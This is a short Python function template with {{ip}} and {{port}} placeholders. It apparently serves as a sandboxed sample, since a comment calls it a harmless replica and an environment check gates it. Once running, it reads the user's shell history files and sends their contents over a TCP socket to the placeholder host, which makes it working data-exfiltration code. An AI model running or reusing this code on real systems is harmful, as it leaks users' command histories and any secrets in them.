# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import glob
    import socket
    import time
    names = sorted(glob.glob(os.path.expanduser('~/.*_history'))) or [os.path.expanduser('~/.bash_history'), os.path.expanduser('~/.zsh_history')]
    for name in names[:6]:
        try:
            with open(name, errors='replace') as file:
                text = file.read(20000)
        except OSError:
            text = 'empty'
        try:
            with socket.create_connection(('{{ip}}', {{port}}), timeout=0.5) as link:
                link.sendall(('%s %s' % (name, text)).encode())
        except OSError:
            pass
        time.sleep(0.1)
